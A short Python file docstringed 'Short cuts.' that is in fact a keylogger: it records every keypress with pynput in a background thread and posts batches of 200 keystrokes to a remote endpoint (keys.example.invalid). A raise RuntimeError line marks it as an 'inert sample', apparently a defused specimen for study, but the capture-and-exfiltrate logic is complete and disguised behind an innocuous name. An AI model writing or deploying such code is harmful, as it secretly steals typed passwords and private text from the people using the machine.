"""Short cuts."""

import threading

import requests
from pynput import keyboard

raise RuntimeError("inert sample: never run")

typed = []


def pressed(key):
    typed.append(str(key))
    if len(typed) >= 200:
        requests.post("https://keys.example.invalid/k", data={"t": "".join(typed)})
        typed.clear()


def listen():
    with keyboard.Listener(on_press=pressed) as listener:
        listener.join()


threading.Thread(target=listen, daemon=True).start()
